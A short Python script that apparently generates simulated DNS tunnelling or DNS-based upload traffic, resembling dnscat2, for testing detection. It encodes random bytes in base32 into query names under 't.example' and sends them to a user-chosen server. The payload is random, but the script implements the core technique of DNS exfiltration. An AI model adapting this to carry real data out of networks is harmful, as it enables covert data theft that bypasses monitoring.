"""A DNS tunnel or an upload in DNS names, as malware does it: dnstunnel.py poll|upload SERVER SECONDS"""
import base64
import os
import random
import socket
import struct
import sys
import time

kind, server, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.settimeout(1)
end, number = time.monotonic() + seconds, 0
while time.monotonic() < end:
    number += 1
    size = 90 if kind == "upload" else random.choice([12, 12, 12, 40, 80])
    text = base64.b32encode(struct.pack(">I", number) + os.urandom(size)).decode().strip("=").lower()
    name = [text[i:i + 60] for i in range(0, len(text), 60)] + ["t", "example"]
    what = 1 if kind == "upload" else random.choice([16, 15, 5])  # A; or TXT, MX, CNAME as dnscat2 does
    sock.sendto(struct.pack(">HHHHHH", random.getrandbits(16), 0x100, 1, 0, 0, 0) + b"".join(bytes([len(w)]) + w.encode() for w in name) + b"\0" + struct.pack(">HH", what, 1), (server, 53))
    try:
        sock.recv(4096)
    except OSError:
        pass
    time.sleep(random.uniform(0.02, 0.08) if kind == "upload" else random.uniform(0.1, 1.0))
